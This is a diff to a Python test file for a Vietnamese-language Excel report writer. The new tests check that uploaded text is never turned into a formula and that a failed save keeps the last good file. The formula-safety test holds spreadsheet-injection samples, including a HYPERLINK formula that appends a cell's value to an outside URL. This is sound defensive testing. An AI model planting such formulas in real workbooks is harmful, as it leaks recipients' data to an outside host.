@@ -1,11 +1,19 @@
 """The workbook opens with openpyxl, with its sheets, numbers in their cells and formats, and words where a
-number is not shown (numbers in ``warehouse_state``)."""
+number is not shown (numbers in ``warehouse_state``); text never turns into a formula; a failed write leaves the
+last good file."""
+
+import zipfile
+from pathlib import Path
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import update
 
+from tests.report import warehouse_state
+from tests.report.conftest import PRODUCED_ON, PROVINCE
 from tests.report.warehouse_state import TARGET_DOC
-from warehouse.report import write_workbook
+from warehouse.models import IndicatorValue, Target
+from warehouse.report import gather_report, write_workbook
 
 SHEETS_VI = ["Tổng hợp", "Chỉ tiêu", "Xu hướng", "Theo xã", "Theo giới tính, tuổi", "Hoạt động", "Thanh tra",
              "Trường hợp", "Biểu đồ"]
@@ -114,3 +122,37 @@ def test_commune_workbook_has_no_commune_breakdown(commune_report, tmp_path):
     workbook = load_workbook(write_workbook(commune_report, tmp_path / "report.xlsx"))
     assert "Theo xã" not in workbook.sheetnames
     assert workbook["Tổng hợp"]["A1"].value.endswith("— Phường Đông Kinh, thuộc Tỉnh Lạng Sơn")
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(sqlite_engine, tmp_path):
+    """A target's source document (uploaded by a data manager) starting with ``=`` never becomes a live formula."""
+    hostile = {"1.1": '=HYPERLINK("http://example.org/x?"&B2,"Kế hoạch 99")', "1.2": "+1+1", "2.2": "-2+3",
+               "1.3": "@SUM(A1)"}
+    with sqlite_engine.begin() as conn:
+        for indicator, text in hostile.items():
+            conn.execute(update(Target).where(Target.indicator_id == indicator).values(source_document=text))
+            conn.execute(update(IndicatorValue).where(IndicatorValue.indicator_id == indicator,
+                                                      IndicatorValue.target_source.is_not(None))
+                         .values(target_source=text))
+    report = gather_report(sqlite_engine, PROVINCE, warehouse_state.YEAR, generated_on=PRODUCED_ON)
+    path = write_workbook(report, tmp_path / "report.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    sheet = load_workbook(path)["Chỉ tiêu"]
+    cells = [row[11] for row in sheet.iter_rows(min_row=2) if row[11].value in hostile.values()]
+    assert {c.value for c in cells} == set(hostile.values())
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_a_failure_mid_write_leaves_the_last_good_file(province_report, tmp_path, monkeypatch):
+    path = write_workbook(province_report, tmp_path / "out" / "report.xlsx")
+    good = path.read_bytes()
+
+    def save_half(self, filename):
+        Path(filename).write_bytes(good[:1000])
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(Workbook, "save", save_half)
+    with pytest.raises(OSError, match="No space left"):
+        write_workbook(province_report, path)
+    assert path.read_bytes() == good and [p.name for p in path.parent.iterdir()] == ["report.xlsx"]
